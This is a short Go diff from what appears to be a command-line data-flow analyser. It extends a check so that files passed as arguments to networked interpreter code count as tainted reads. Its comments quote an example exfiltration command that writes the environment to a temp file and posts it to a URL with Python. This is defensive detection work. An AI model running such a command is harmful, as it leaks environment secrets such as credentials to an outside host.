@@ -1139,9 +1139,18 @@ func (a *analysis) flows() {
 // codeReadsTainted is the source kind of a file the line wrote that the
 // interpreter code of command i, which talks to the network, opens (env >
 // /tmp/e; python3 -c "requests.post(URL, data=open('/tmp/e').read())"):
-// the walk reports the code's reads as commands one level deeper.
+// the walk reports the code's reads as commands one level deeper; a file
+// given to the code as its argument (python3 -c "…open(sys.argv[1])…"
+// /tmp/e) is one it opens too.
 func (a *analysis) codeReadsTainted(files map[string]string, i int) string {
 	cmds := a.res.Commands
+	for _, w := range cmds[i].Args {
+		if w != "" && w[0] != '-' && !strings.ContainsAny(w, " \t\n;(") {
+			if s := a.taintedRead(files, w, false); s != "" {
+				return s
+			}
+		}
+	}
 	for j := i + 1; j < len(cmds) && cmds[j].Depth > cmds[i].Depth; j++ {
 		if !cmds[j].Synthetic || cmds[j].Depth != cmds[i].Depth+1 {
 			continue
